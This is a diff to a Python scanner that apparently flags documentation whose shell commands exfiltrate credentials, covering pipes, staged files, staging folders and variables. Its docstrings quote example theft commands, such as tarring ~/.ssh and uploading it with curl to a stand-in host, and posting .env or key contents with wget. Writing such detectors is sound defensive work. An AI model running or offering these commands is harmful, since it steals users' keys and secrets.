@@ -5,11 +5,14 @@ command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret
 
 * through a pipe: ``tar czf - ~/.ssh | curl -T - https://drop.invalid``;
 * through a file: ``tar czf /tmp/k.tgz ~/.ssh`` and, later, ``curl -F f=@/tmp/k.tgz …``;
+* through a staging folder: ``cp -r ~/.ssh "$D/keys"``, ``tar czf /tmp/b.tgz -C "$D" .``,
+  then the archive sent;
 * through a file read back into a variable: ``env > /tmp/e``, ``B=$(base64 /tmp/e)``, then
   ``curl -d "{\"d\": \"$B\"}" …``;
 * through a variable that holds a whole credential file, read directly or in a loop over
   credential paths: ``E=$(cat .env)`` or ``for k in ~/.ssh/id_*; do K="$K$(cat "$k")"; done``,
-  then ``echo "$K" | wget --post-file=- …``.
+  then ``echo "$K" | wget --post-file=- …``, also when it is first copied into another
+  variable (a JSON report built from it).
 
 Documented commands are one session: :func:`documented_session` joins the shell fences of
 a document, so a file staged in one fence and sent from the next is seen too.
@@ -107,6 +110,38 @@ def _reads_credentials(stage: list[str]) -> bool:
         if before in _EXCLUDE_FLAGS or word.startswith("--exclude="):
             continue
         if _names_credential(word):
+            return True
+    return False
+
+
+def _reads_staged(stage: list[str], staged: dict[str, int]) -> bool:
+    """The stage reads a file credentials were staged in, or a folder holding one
+    (``cp -r ~/.ssh "$D/k"`` then ``tar czf /tmp/b.tgz -C "$D" .``): packing the staging
+    folder carries the credentials into the archive.
+
+    >>> _reads_staged(["tar", "czf", "/tmp/b.tgz", "-C", "$D", "."], {"$D/k": 1})
+    True
+    >>> _reads_staged(["tar", "czf", "/tmp/b.tgz", "src"], {"$D/k": 1})
+    False
+    """
+    if not staged or _verb(stage) in _NOT_READING:
+        return False
+    arguments = _without_redirections(stage[_verb_index(stage) + 1 :])
+    written = _written_file(stage)
+    for word in arguments:
+        if word == written or word.startswith("-") or word in (".", "/"):
+            continue
+        folder = word.rstrip("/") + "/"
+        if word in staged or any(name.startswith(folder) for name in staged):
+            return True
+    return False
+
+
+def _mentions_staging(line: str, staged: dict[str, int]) -> bool:
+    """``line`` names a staged file or the folder it was staged in."""
+    for name in staged:
+        folder = name.rstrip("/").rsplit("/", 1)[0] if "/" in name.rstrip("/") else ""
+        if name in line or (folder and folder in line):
             return True
     return False
 
@@ -355,6 +390,11 @@ def pipes_credentials_out(command_line: str) -> bool:
     return any(_pipes_out(stages) for stages in _commands(command_line))
 
 
+_GLUED_SUBSTITUTION = re.compile(r"(?<=[\w./-])\$\([^()\n]*\)(?=[\w.-])")
+"""A command substitution inside a file name (``/tmp/b_$(date +%F).tgz``): one placeholder,
+so the name is one word wherever it is written, quoted or not."""
+
+
 def credential_staging(path: str, text: str) -> list[ThreatFinding]:
     """Findings for credentials piped to a sender, or written to a file that is sent later."""
     if not may_pipe_credentials(folded_text(text)):
@@ -369,12 +409,15 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
         if loop is not None:
             loop_paths[loop[0]] = loop[1]
         line = _expand(raw, loop_paths) if loop_paths else raw
-        carried_in = _carrier(line, staged, number)
+        line = _GLUED_SUBSTITUTION.sub("…", line) if "$(" in line else line
+        carried_in = _carrier(line, staged, number) or _copied_carrier(line, carriers)
         if carried_in is not None:
             carriers[carried_in[0]] = carried_in[1]
             continue
         if not (
-            _CREDENTIAL_HINT.search(line) or ((staged or carriers) and _SENDER_HINT.search(line))
+            _CREDENTIAL_HINT.search(line)
+            or ((staged or carriers) and _SENDER_HINT.search(line))
+            or _mentions_staging(line, staged)
         ):
             continue
         if line.lstrip().startswith("#"):
@@ -400,7 +443,14 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
                 )
                 findings.append(staging_finding(path, lines, number, description))
                 continue
-            reader = next((i for i, s in enumerate(stages) if _reads_credentials(s)), None)
+            reader = next(
+                (
+                    i
+                    for i, s in enumerate(stages)
+                    if _reads_credentials(s) or _reads_staged(s, staged)
+                ),
+                None,
+            )
             if reader is None:
                 continue
             for stage in stages[reader:]:
@@ -429,6 +479,25 @@ def _carrier(line: str, staged: dict[str, int], number: int) -> tuple[str, str] 
         credential = _dumps_credentials(match.group(1) or match.group(2) or "")
         if credential:
             return assigned.group(1), f"{credential} is read whole (line {number}) into"
+    return None
+
+
+def _copied_carrier(line: str, carriers: dict[str, str]) -> tuple[str, str] | None:
+    """(variable, how it got credentials) when ``line`` builds a variable from one that
+    already holds credentials (``REPORT="$REPORT {\"content\": \"$CONTENT\"}"``).
+
+    >>> _copied_carrier('R="$R $K"', {"K": "~/.env is read whole (line 3) into"})
+    ('R', '~/.env is read whole (line 3) into $K, copied into')
+    """
+    assigned = _ASSIGNMENT.match(line) if carriers else None
+    if assigned is None:
+        return None
+    name, value = assigned.groups()
+    for variable, how in carriers.items():
+        if re.search(rf"\$\{{?{re.escape(variable)}\b", value):
+            if variable == name:
+                return name, how
+            return name, f"{how} ${variable}, copied into"
     return None
 
 
